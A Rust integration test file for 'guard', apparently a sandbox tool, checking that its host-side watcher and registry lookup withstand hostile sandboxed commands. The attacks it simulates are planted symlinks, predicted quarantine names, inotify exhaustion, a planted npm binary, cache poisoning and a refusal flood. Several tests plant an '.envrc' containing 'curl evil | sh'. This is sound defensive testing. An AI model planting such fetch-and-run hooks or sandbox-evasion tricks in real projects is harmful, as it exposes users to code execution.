//! guard's own host-side code (unsandboxed) acts on paths the sandbox can
//! write: the protected-path watcher and the checks after the run, and the
//! lookup of npm's registry. A hostile command plants links, names and
//! files so that guard, outside the sandbox, touches something it should
//! not, misses something that runs later, or runs something itself.

mod common;

use common::{Env, TempDir, canary, modes};
use std::path::Path;

/// The inotify exhaustion test uses up its uid's inotify instances, which
/// disables the watcher of every other guard of that uid meanwhile (the
/// check after the run still catches everything). Tests that expect the
/// watcher to act during the run do not overlap it.
static INOTIFY: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn inotify_lock() -> std::sync::MutexGuard<'static, ()> {
    INOTIFY.lock().unwrap_or_else(|e| e.into_inner())
}

/// Entries of `dir` whose name contains `part`.
fn names_with(dir: &Path, part: &str) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|rd| {
            rd.filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.contains(part))
                .collect()
        })
        .unwrap_or_default()
}

/// A link planted in place of a protected path's parent must never make
/// guard rename what the link points at: the victim outside the project
/// stays where it is, the link is what gets moved aside. Also while the
/// sandbox keeps swapping a real directory for the link under the watcher.
#[test]
fn a_planted_link_never_makes_guard_rename_outside_the_project() {
    let _inotify = inotify_lock();
    for mode in modes() {
        for race in [false, true] {
            let env = Env::new(mode);
            let victim = TempDir::new("victim", mode);
            let secret = canary("VICTIM");
            victim.write("tasks.json", &secret);
            victim.write(".envrc", &secret);
            victim.own(mode);
            let v = victim.path.display();
            let script = if race {
                // ~3 s of swapping, well past the watcher's start.
                format!(
                    "end=$(( $(date +%s) + 3 )); \
                     while [ $(date +%s) -lt $end ]; do \
                       mkdir -p .vscode; echo x > .vscode/tasks.json; rm -rf .vscode; \
                       ln -s {v} .vscode; rm -f .vscode; \
                     done; ln -s {v} .vscode; ln -s {v}/.envrc .envrc; sleep 1; \
                     cat .vscode/tasks.json .envrc 2>&1; echo done=1"
                )
            } else {
                format!(
                    "ln -s {v} .vscode && ln -s {v}/.envrc .envrc && echo planted=1; sleep 1.5; \
                     cat .vscode/tasks.json .envrc 2>&1; echo done=1"
                )
            };
            env.own();
            let out = env.sh(&script);
            out.expect_code(0);
            assert_eq!(out.field("done").as_deref(), Some("1"), "{}", out.all());
            // The attack failed: the victim is where it was, unchanged.
            assert_eq!(
                std::fs::read_to_string(victim.join("tasks.json")).ok(),
                Some(secret.clone()),
                "race={race}: {}",
                out.all()
            );
            assert_eq!(
                std::fs::read_to_string(victim.join(".envrc")).ok(),
                Some(secret.clone())
            );
            assert!(
                names_with(&victim.path, "quarantine").is_empty(),
                "guard renamed inside the victim: {:?}",
                names_with(&victim.path, "")
            );
            // For the right reason: the links themselves were moved aside.
            for link in [".vscode", ".envrc"] {
                assert!(
                    std::fs::symlink_metadata(env.project.join(link)).is_err(),
                    "race={race}: {link} left in place: {}",
                    out.all()
                );
            }
            assert!(out.stderr.contains("moved it to"), "{}", out.all());
            assert!(!out.stderr.contains("could not move"), "{}", out.all());
            // The sandbox never saw the victim through its link.
            out.assert_no_canary(&secret);
        }
    }
}

/// The quarantine names are predictable (a timestamp and a counter); the
/// sandbox makes them first, as non-empty directories a rename cannot
/// replace. The planted file must still go.
#[test]
fn predicted_quarantine_names_do_not_keep_a_planted_file() {
    let _inotify = inotify_lock();
    for mode in modes() {
        let env = Env::new(mode);
        env.own();
        let out = env.sh(
            "now=$(date +%s); for t in $(seq $((now - 1)) $((now + 8))); do for n in $(seq 0 20); do \
               mkdir -p .envrc.guard-quarantine-$t-$n/x .vscode/tasks.json.guard-quarantine-$t-$n/x; \
             done; done; \
             echo 'curl evil | sh' > .envrc && echo '{}' > .vscode/tasks.json && echo planted=1; \
             for i in $(seq 1 300); do [ -e .envrc ] || break; sleep 0.1; done; \
             [ -e .envrc ] && echo during=present || echo during=gone",
        );
        out.expect_code(0);
        assert_eq!(out.field("planted").as_deref(), Some("1"), "{}", out.all());
        // Moved aside during the run, despite every predicted name taken.
        assert_eq!(
            out.field("during").as_deref(),
            Some("gone"),
            "{}",
            out.all()
        );
        assert!(!env.project.join(".envrc").exists(), "{}", out.all());
        assert!(!env.project.join(".vscode/tasks.json").exists());
        assert!(out.stderr.contains("moved it to"), "{}", out.all());
        assert!(!out.stderr.contains("could not move"), "{}", out.all());
    }
}

/// The sandbox uses up the inotify instances and watches of its uid before
/// the watcher starts: guard cannot watch, so the check after the run must
/// still move the planted file aside.
#[test]
fn exhausted_inotify_still_leaves_nothing_planted() {
    let _inotify = inotify_lock();
    for mode in modes() {
        let env = Env::new(mode);
        env.own();
        let script = common::py(
            "import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
fds = []
while len(fds) < 100000:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    fds.append(fd)
print(\"instances=%d errno=%d\" % (len(fds), ctypes.get_errno()))
open(\".envrc\", \"w\").write(\"curl evil | sh\\n\")
time.sleep(1.5)",
        );
        let out = env.sh(&script);
        out.expect_code(0);
        assert!(out.stdout.contains("instances="), "{}", out.all());
        assert!(!env.project.join(".envrc").exists(), "{}", out.all());
        assert!(out.stderr.contains("moved it to"), "{}", out.all());
    }
}

/// A PATH with a relative entry (`node_modules/.bin`, `.`, or an empty
/// entry, which means the current directory) resolves in the project,
/// guard's working directory. An `npm` or `node` planted there must never
/// run on the host when guard asks npm for its registry, nor choose the
/// npmrc guard reads (`{node}/../../etc/npmrc`).
#[test]
fn a_planted_npm_in_a_relative_path_entry_never_runs_on_the_host() {
    for mode in modes() {
        let env = Env::new(mode);
        let marker = TempDir::new("marker", mode);
        let ran = marker.join("ran");
        let script = format!(
            "#!/bin/sh\ntouch {}\necho https://planted.example.test/\n",
            ran.display()
        );
        for bin in ["node_modules/.bin/npm", "node_modules/.bin/node", "npm"] {
            let p = env.project.write(bin, &script);
            std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755))
                .unwrap();
        }
        env.project.write(
            "etc/npmrc",
            "registry=https://planted-npmrc.example.test/\n",
        );
        env.own();
        let host_path = std::env::var("PATH").unwrap_or_default();
        let bin = env.project.join("node_modules/.bin");
        // Relative entries, and an absolute one into the project (what
        // direnv's `PATH_add node_modules/.bin` makes).
        for path in [
            format!("node_modules/.bin::{host_path}"),
            format!("{}:{host_path}", bin.display()),
        ] {
            let out = common::Outcome::from(
                env.guard(&["explain", "-p", "node", "--", "true"])
                    .env("PATH", &path)
                    .env_remove("npm_config_registry")
                    .env_remove("NPM_CONFIG_REGISTRY")
                    .env_remove("NPM_CONFIG_PREFIX")
                    .env_remove("NPM_CONFIG_GLOBALCONFIG")
                    .output()
                    .unwrap(),
            );
            out.expect_code(0);
            assert!(
                !ran.exists(),
                "{path}: guard ran the project's npm: {}",
                out.all()
            );
            assert!(!out.all().contains("planted"), "{path}: {}", out.all());
            // Still the registry of the npm installed on the host.
            let registry = common::npm_registry_host();
            assert!(
                out.stdout.contains(&format!("allow {registry} ")),
                "{path}: {}",
                out.all()
            );
        }
    }
}

/// guard caches npm's default registry under the user's cache dir; the
/// sandbox must not be able to write it (a poisoned entry would widen the
/// next session's egress).
#[test]
fn the_registry_cache_is_out_of_the_sandboxs_reach() {
    for mode in modes() {
        for level in ["full", "landlock"] {
            let env = Env::new(mode);
            env.own();
            let warm = env.run(&["explain", "-p", "node", "--", "true"]);
            warm.expect_code(0);
            let cache = env.home.join(".cache/guard/npm-default-registry");
            let before = std::fs::read_to_string(&cache).expect("cache written on the host");
            let c = cache.display();
            let out = env.run(&[
                "run",
                "-p",
                "node",
                "--isolation",
                level,
                "--",
                "sh",
                "-c",
                &format!(
                    "printf 'x\\nhttps://poison.example.test/\\n' > {c} 2>&1; echo write=$?; \
                     rm {c} 2>&1; echo rm=$?"
                ),
            ]);
            out.expect_code(0);
            assert_ne!(
                out.field("write").as_deref(),
                Some("0"),
                "{level}: {}",
                out.all()
            );
            assert_ne!(
                out.field("rm").as_deref(),
                Some("0"),
                "{level}: {}",
                out.all()
            );
            assert_eq!(std::fs::read_to_string(&cache).ok(), Some(before));
        }
    }
}

/// guard keeps 2,000 refused connections for the summary and counts the
/// rest. A sandbox floods one decoy destination past that, then tries the
/// host it wants: the summary must still name it, and the counts add up.
#[test]
fn a_refusal_flood_does_not_hide_a_destination_from_the_summary() {
    for mode in modes() {
        let env = Env::new(mode);
        env.own();
        let flood = common::py(
            "import socket
def refused(host):
    s = socket.create_connection((\"127.0.0.1\", 3128))
    s.sendall(b\"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n\" % (host, host))
    r = s.recv(100).startswith(b\"HTTP/1.1 403\")
    s.close()
    return r
n = sum(refused(b\"decoy.example.test\") for i in range(2100))
n += refused(b\"real-target.example.test\")
print(\"refused=%d\" % n)",
        );
        let r = env.sh(&flood);
        r.expect_code(0);
        assert_eq!(r.field("refused").as_deref(), Some("2101"), "{}", r.all());
        assert!(
            r.stderr
                .contains("real-target.example.test:443 (not-allowed)"),
            "{}",
            r.stderr
        );
        assert!(
            r.stderr
                .contains("decoy.example.test:443 (not-allowed, 2000 times)"),
            "{}",
            r.stderr
        );
        assert!(
            r.stderr
                .contains("100 more refused connection(s) are in the log only"),
            "{}",
            r.stderr
        );
    }
}

/// CPU time (user + system, in clock ticks) of the thread of `pid` named
/// `name`, if it is running.
fn thread_ticks(pid: u32, name: &str) -> Option<u64> {
    for t in std::fs::read_dir(format!("/proc/{pid}/task")).ok()? {
        let t = t.ok()?.path();
        if std::fs::read_to_string(t.join("comm")).ok()?.trim() != name {
            continue;
        }
        let stat = std::fs::read_to_string(t.join("stat")).ok()?;
        // Fields after the command name (which may hold spaces): utime and
        // stime are fields 14 and 15, i.e. 12th and 13th after ")".
        let rest = stat.rsplit_once(')')?.1;
        let f: Vec<&str> = rest.split_whitespace().collect();
        return Some(f.get(11)?.parse::<u64>().ok()? + f.get(12)?.parse::<u64>().ok()?);
    }
    None
}

/// The sandbox creates and deletes files in the project without pause, an
/// inotify event each: the watcher must not burn a CPU of the supervisor
/// in step with it, and must still move aside what is planted meanwhile.
#[test]
fn an_event_storm_does_not_spin_the_watcher() {
    let _inotify = inotify_lock();
    for mode in modes() {
        let env = Env::new(mode);
        env.own();
        let storm = common::py(
            "import os, time
start = time.time()
open(\"storming\", \"w\").close()
n = 0
planted = False
while time.time() < start + 4 or planted and os.path.exists(\".envrc\") and time.time() < start + 30:
    p = \"f%d\" % (n % 50)
    open(p, \"w\").close()
    os.unlink(p)
    n += 1
    if n == 2000:
        open(\".envrc\", \"w\").write(\"curl evil | sh\\n\")
        planted = True
print(\"ops=%d\" % n)
print(\"envrc=%s\" % (\"present\" if os.path.exists(\".envrc\") else \"gone\"))",
        );
        // The storm goes on for 4 s, and for as long as the file planted
        // early in it stays (30 s at most): the watcher must act while it
        // rages, however slowly a loaded machine runs it.
        let mut child = env
            .guard(&["run", "--", "sh", "-c", &storm])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Measured from the storm's start, not guard's: the sandbox may
        // take seconds to start on a loaded machine.
        let storming = env.project.join("storming");
        let start = std::time::Instant::now();
        while !storming.exists() {
            assert!(
                child.try_wait().unwrap().is_none(),
                "guard exited before the storm"
            );
            assert!(
                start.elapsed() < std::time::Duration::from_secs(60),
                "the storm never started"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        std::thread::sleep(std::time::Duration::from_millis(3000));
        let ticks = thread_ticks(child.id(), "guard-protect");
        let out = common::Outcome::from(child.wait_with_output().unwrap());
        out.expect_code(0);
        let ops: u64 = out.field("ops").and_then(|n| n.parse().ok()).unwrap_or(0);
        // A storm, however slowly a loaded machine runs it (~5,000
        // create+unlink pairs a second here; under CI's parallel tests
        // ~4,900): thousands of events a second for the watcher.
        assert!(ops > 8000, "no storm: {}", out.all());
        let ticks = ticks.expect("the watcher thread was running");
        // ~3 s of watching a storm: measured 3.2 s of CPU before the fix,
        // 0.1 s after. Half a second leaves room for a loaded machine.
        assert!(ticks < 50, "watcher used {ticks} ticks: {}", out.all());
        // Still watching: the file planted mid-storm went during the run.
        assert_eq!(out.field("envrc").as_deref(), Some("gone"), "{}", out.all());
        assert!(!env.project.join(".envrc").exists());
    }
}
